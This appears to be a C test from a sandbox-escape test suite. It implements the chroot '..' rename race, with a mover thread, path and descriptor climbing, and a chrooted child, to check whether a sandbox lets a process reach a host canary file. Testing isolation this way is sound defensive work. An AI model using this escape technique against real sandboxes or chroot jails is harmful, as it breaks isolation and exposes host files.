/* tries: walk ".." out of a directory that a second thread moves up and down the tree at that
   moment, from paths, from open descriptors and from the working directory of a chroot'ed child */
/* must fail because: every step of ".." is checked against the task's root in the sentry's own
   tree; a directory that was moved out of the root leads nowhere above it */
/* an escape would: stand above the root after a rename (the classic chroot race) and read the
 * canary */
/* source: ATTACKS.md F3, F12 */
#include <pthread.h>

#include "tricks.h"

static volatile int stop, moves;

static void *mover(void *arg)
{
    while (!stop) {
        moves += rename("/tmp/jail/a/b/c", "/tmp/out") == 0;
        moves += rename("/tmp/out", "/tmp/jail/a/b/c") == 0;
    }
    return arg;
}

static int climb(const char *file)
{
    char path[256] = "/tmp/jail/a/b/c/d";
    int depth = 5 + (int)(now_ms() % 11);
    for (int i = 0; i < depth; i++)
        strcat(path, "/..");
    if (reach_by(AT_FDCWD, path, file) == 1)
        return 1;
    int fd = open("/tmp/jail/a/b/c/d", O_PATH | O_DIRECTORY);
    for (int i = 0; i < depth && fd >= 0; i++) {
        int up = openat(fd, "..", O_PATH | O_DIRECTORY);
        close(fd);
        fd = up;
    }
    int r = fd >= 0 && reach_by(fd, ".", file) == 1;
    close(fd);
    return r;
}

/* A child in a chroot of its own (where that is allowed) whose directory is moved out of it. */
static int jailed(void)
{
    struct stat root, here;
    for (int i = 0; i < 1000 && chdir("/tmp/jail/a/b/c/d") < 0; i++)
        sched_yield();
    if (chroot("/tmp/jail") < 0)
        return 2;
    for (long end = now_ms() + 200; now_ms() < end;)
        if (chdir("..") == 0 && stat(".", &here) == 0 && stat("/", &root) == 0 &&
            here.st_ino == root.st_ino)
            chdir("/a/b/c/d");
    return reach_by(AT_FDCWD, ".", fact("host_file")) == 1 ||
           reach_by(AT_FDCWD, "../../../../../../..", fact("host_file")) == 1;
}

static int attack(void)
{
    const char *file = fact("host_file");
    pthread_t t;
    int tries = 0, won = 0;
    if (!file)
        return cannot("no host_file was given");
    mkdir("/tmp/jail", 0755);
    mkdir("/tmp/jail/a", 0755);
    mkdir("/tmp/jail/a/b", 0755);
    mkdir("/tmp/jail/a/b/c", 0755);
    if (mkdir("/tmp/jail/a/b/c/d", 0755) < 0 || pthread_create(&t, NULL, mover, NULL) != 0)
        return cannot("no directories or no thread: %s", err_name(errno));
    for (long start = now_ms(); now_ms() - start < (moves < 10 ? HANG_MS : 600) && !won; tries++)
        won = climb(file);
    int r = in_child(jailed);
    stop = 1;
    pthread_join(t, NULL);
    step("%d climbs against %d moves; chrooted child: %s", tries, moves,
         r == 2   ? "no chroot"
         : r == 0 ? "stayed"
                  : "left");
    if (won || r == 1)
        return escaped("\"..\" of a moved directory led to the canary");
    if (moves < 10)
        return cannot("only %d moves happened", moves);
    return contained("\"..\" never led above the root");
}

static int twin(void)
{
    char cwd[256] = "";
    if (mkdir("/tmp/a", 0755) < 0 || mkdir("/tmp/a/b", 0755) < 0 || mkdir("/tmp/c", 0755) < 0)
        return broken("mkdir: %s", err_name(errno));
    if (chdir("/tmp/a/b") < 0 || rename("/tmp/a/b", "/tmp/c/b") < 0 || chdir("..") < 0 ||
        !getcwd(cwd, sizeof(cwd)) || strcmp(cwd, "/tmp/c") != 0)
        return broken("\"..\" of a moved directory is %s", cwd);
    return works("\"..\" of a moved directory is its new parent");
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv, attack, twin);
}
